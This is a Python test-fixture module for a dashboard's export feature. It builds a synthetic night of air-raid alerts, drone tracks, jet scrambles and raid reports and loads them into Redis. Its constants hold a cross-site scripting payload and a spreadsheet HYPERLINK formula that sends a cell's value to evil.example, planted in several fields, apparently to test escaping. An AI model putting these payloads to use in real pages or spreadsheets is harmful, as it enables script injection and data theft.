"""What the exports' tests share: a night with hostile words in it, and where it lies."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import pytest
from redis.asyncio import Redis

from config.settings import Settings
from config.theatre import load_theatre
from dashboard.exports.asked import Asked, Here
from streams.archive.shelf import FolderShelf
from streams.codec import encode
from streams.events import (
    AirRaidAlert,
    AirspaceRestriction,
    Count,
    Event,
    Evidence,
    FeedHealth,
    LogEntry,
    Point,
    Quantities,
    RaidReport,
    Scramble,
    Strike,
    Threat,
)
from streams.names import key, stream_of

THEATRE = load_theatre("eastern-flank")
EVENING = dt.datetime(2026, 3, 3, 19, tzinfo=dt.UTC)
"""By Kyiv's clock the night is that of 4 March."""
MORNING = EVENING + dt.timedelta(hours=8)
HOSTILE = "</script><script>globalThis.hostile = 1</script><img src=x onerror=hostile=2>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"more")'


def at(minutes: float) -> dt.datetime:
    """So long after the evening began."""
    return EVENING + dt.timedelta(minutes=minutes)


def night() -> list[tuple[dt.datetime, Event]]:
    """Alerts, drones, jets with a lead, two claims, one of them corrected, a strike, and a feed that died."""
    told: list[tuple[dt.datetime, Event]] = []

    def add(minutes: float, kind: type[Any], **fields: Any) -> None:
        told.append((at(minutes), kind(status="actual", **fields)))

    regions = [name for name in THEATRE.alert_regions if not THEATRE.regions[name].permanent_alert]
    for number, region in enumerate(regions[:14]):
        begun, over = 20 + 9 * number, 200 + 13 * number
        alert = {"id": f"a{number}", "feed": "sirens", "region": region, "valid_from": at(begun)}
        level = "yellow" if number % 5 == 4 else "red"
        add(begun + 0.2, AirRaidAlert, level=level, **alert)
        add(over + 0.1, AirRaidAlert, revision=2, level=level, valid_to=at(over), **alert)
    drones = {"id": "t1", "feed": "channel", "threat_type": "drones", "valid_from": at(30), "toward": HOSTILE}
    for step in range(5):
        add(
            31 + 15 * step,
            Threat,
            revision=step + 1,
            state="announced" if not step else "moving",
            position=Point(lon=33 - step * 1.4, lat=50.6 - step * 0.1),
            course_deg=262.0,
            count=Count(value=12),
            published_at=at(31 + 15 * step),
            **drones,
        )
    add(
        95,
        Scramble,
        id="j1",
        feed="dorsz",
        country="PL",
        state="start",
        valid_from=at(94),
        published_at=at(95),
    )
    add(
        250,
        Scramble,
        id="j1e",
        feed="dorsz",
        country="PL",
        state="end",
        valid_to=at(248),
        published_at=at(250),
    )
    text = f"{HOSTILE} 479 drones were launched."
    begin = text.index("479")
    for revision, launched in ((1, 472), (2, 479)):
        words = text.replace("479", str(launched))
        proof = Evidence(
            document="r1",
            text=words,
            lang="en",
            title=FORMULA,
            spans={"launched.uav": ((begin, begin + 3),)},
        )
        add(
            380 + 20 * revision,
            RaidReport,
            id="r1",
            revision=revision,
            feed="paper",
            claimant="ua-air-force",
            valid_from=at(10),
            valid_to=at(370),
            published_at=at(380 + 20 * revision),
            launched=Quantities(uav=Count(value=launched), missile=Count(value=20)),
            neutralised=Quantities(uav=Count(value=launched - 19)),
            impact_places=Count(value=10),
            reliability="B",
            credibility=2,
            evidence=proof,
        )
    add(
        415,
        RaidReport,
        id="r2",
        feed="agency",
        claimant="ru-mod",
        valid_from=at(10),
        valid_to=at(370),
        published_at=at(415),
        launched=Quantities(uav=Count(min=100, qualifier="over")),
    )
    add(
        300, Strike, id="s1", feed="paper", target=FORMULA, region="UA-56", position=Point(lon=26.2, lat=50.6)
    )
    add(96, AirspaceRestriction, id="c1", feed="notam", subject="EPRZ", state="closed", valid_from=at(96))
    desk = {"feed": "desk", "by": "olena"}
    add(100, LogEntry, id="desk:b", act="bookmark", note=f"Jets\n{HOSTILE}", **desk)
    add(101, LogEntry, id="desk:x", act="audit", note="signed in", **desk)
    add(
        430, LogEntry, id="desk:c", feed="desk", act="correction", by="olena", about="r1", made=2, note="Typo"
    )
    for minute in range(0, 470, 2):
        for feed in ("sirens", "dorsz"):
            is_out = feed == "dorsz" and 120 <= minute < 180
            told.append(
                (
                    at(minute + 0.5),
                    FeedHealth(
                        id=f"health:{feed}",
                        revision=minute + 1,
                        status="system",
                        feed="watchfloor",
                        subject=feed,
                        state="dead" if is_out else "fresh",
                        checked_at=at(minute + 0.5),
                        every_s=120,
                    ),
                )
            )
    return sorted(told, key=lambda each: each[0])


@pytest.fixture
async def heard(redis_client: Redis) -> Redis:
    """A store that received the night as it went."""
    async with redis_client.pipeline(transaction=False) as pipeline:
        for number, (received_at, event) in enumerate(night()):
            entry_id = f"{int(received_at.timestamp() * 1_000)}-{number + 1}"
            pipeline.xadd(key(THEATRE.name, stream_of(event)), {"event": encode(event)}, id=entry_id)
        await pipeline.execute()
    return redis_client


@pytest.fixture
def here(heard: Redis, store_url: str, tmp_path: Path) -> Here:
    """The installation that heard the night."""
    shelf = FolderShelf(tmp_path / "archive" / THEATRE.name)
    return Here(shelf=shelf, store_url=store_url, theatre=THEATRE.name, status="actual", var=tmp_path)


@pytest.fixture
def options(heard: Redis, store_url: str, tmp_path: Path) -> Settings:
    """The same, as its settings say it."""
    return Settings(var=tmp_path, exercise="off", REDIS_URL=store_url)


def asked(kind: Any, **fields: Any) -> Asked:
    """The night, as an export."""
    return Asked(kind=kind, **{"from_": EVENING, "to": MORNING, "title": f"Night {HOSTILE}", **fields})
